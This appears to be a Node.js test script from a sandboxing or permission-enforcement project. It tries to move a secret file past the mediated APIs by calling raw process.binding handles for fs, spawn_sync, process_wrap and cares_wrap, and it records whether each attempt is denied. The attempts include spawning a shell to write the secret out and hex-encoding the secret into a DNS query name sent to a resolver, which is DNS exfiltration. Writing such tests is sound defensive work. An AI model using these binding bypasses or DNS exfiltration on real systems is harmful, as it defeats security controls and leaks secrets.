'use strict';
// Tries, as an attacker would, to move secret/a.txt through Node's raw bindings
// (process.binding), beneath every mediated API (argv[2] is the workspace, argv[3] the attempt,
// argv[4] a resolver's UDP port), and prints one JSON line of what the try reached:
// fs: the secret written to out/public/raw.txt with the fs binding's own open and writeString.
// spawn_sync / process_wrap: `sh` started by the binding, writing the secret to out/public/<name>.txt.
// cares_wrap: a DNS query for a name made of the secret, sent by the binding's own channel to
//   the resolver at 127.0.0.1:argv[4].
// served: what the bindings libraries use still are (constants, natives, util, buffer, the
//   locked handle bindings, cares_wrap's address helpers, the inspector's url).
process.noDeprecation = true;
const fs = require('node:fs');
const path = require('node:path');

const root = process.argv[2];
const attempt = process.argv[3];
const secret = fs.readFileSync(path.join(root, 'secret/a.txt'), 'utf8');
const out = (name) => path.join(root, 'out/public', name);
const outcomeOf = (error) => (error.code === 'ERR_PROVENANCE_DENIED' ? `denied:${error.rule}` : `failed:${error.message}`);
const shArgs = (file) => ['sh', '-c', 'printf %s "$1" > "$2"', 'sh', secret, file];
const noStdio = [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }];

const attempts = {
  fs(done) {
    const raw = process.binding('fs');
    const fd = raw.open(out('raw.txt'), fs.constants.O_WRONLY | fs.constants.O_CREAT, 0o644);
    // Node 22 and 24 check for six arguments (the last two: no request, so synchronous).
    raw.writeString(fd, secret, null, 'utf8', undefined, undefined);
    raw.close(fd);
    done('wrote');
  },
  spawn_sync(done) {
    const result = process
      .binding('spawn_sync')
      .spawn({ file: '/bin/sh', args: shArgs(out('spawn_sync.txt')), envPairs: [], stdio: noStdio });
    done(`spawned:${result.status}`);
  },
  process_wrap(done) {
    const { Process } = process.binding('process_wrap');
    const child = new Process();
    child.onexit = (status) => {
      child.close();
      done(`spawned:${status}`);
    };
    const error = child.spawn({ file: '/bin/sh', args: shArgs(out('process_wrap.txt')), envPairs: [], stdio: noStdio });
    if (error !== 0) done(`failed:${error}`);
  },
  cares_wrap(done) {
    const { ChannelWrap, QueryReqWrap } = process.binding('cares_wrap');
    if (typeof ChannelWrap !== 'function') return done('absent');
    // Node 22 takes (timeout, tries), Node 24 also a maximum timeout.
    const channel = new ChannelWrap(...(process.versions.node.startsWith('22.') ? [-1, 1] : [-1, 1, 0]));
    channel.setServers([[4, '127.0.0.1', Number(process.argv[4])]]);
    const req = new QueryReqWrap();
    req.oncomplete = () => undefined;
    const error = channel.queryA(req, `${Buffer.from(secret).toString('hex').slice(0, 40)}.example`, false);
    // c-ares hands the query to the socket inside queryA; nobody answers, so stop waiting.
    channel.cancel();
    done(error === 0 ? 'queried' : `failed:${error}`);
  },
  served(done) {
    const tryBinding = (name, read) => {
      try {
        return read(process.binding(name));
      } catch (error) {
        return outcomeOf(error);
      }
    };
    done({
      constants: tryBinding('constants', (b) => typeof b.fs.O_RDONLY),
      natives: tryBinding('natives', (b) => typeof b.fs),
      util: tryBinding('util', (b) => b.isDate(new Date())),
      buffer: tryBinding('buffer', (b) => typeof b.kStringMaxLength),
      tcp_wrap: tryBinding('tcp_wrap', (b) => typeof b.TCP),
      canonicalizeIP: tryBinding('cares_wrap', (b) => b.canonicalizeIP('::ffff:7f00:1')),
      getaddrinfo: tryBinding('cares_wrap', (b) => typeof b.getaddrinfo),
      inspectorUrl: tryBinding('inspector', (b) => typeof b.url),
      fs_event_wrap: tryBinding('fs_event_wrap', (b) => typeof b.FSEvent),
    });
  },
};

const report = (result) => console.log(JSON.stringify({ [attempt]: result }));
try {
  attempts[attempt](report);
} catch (error) {
  report(outcomeOf(error));
}
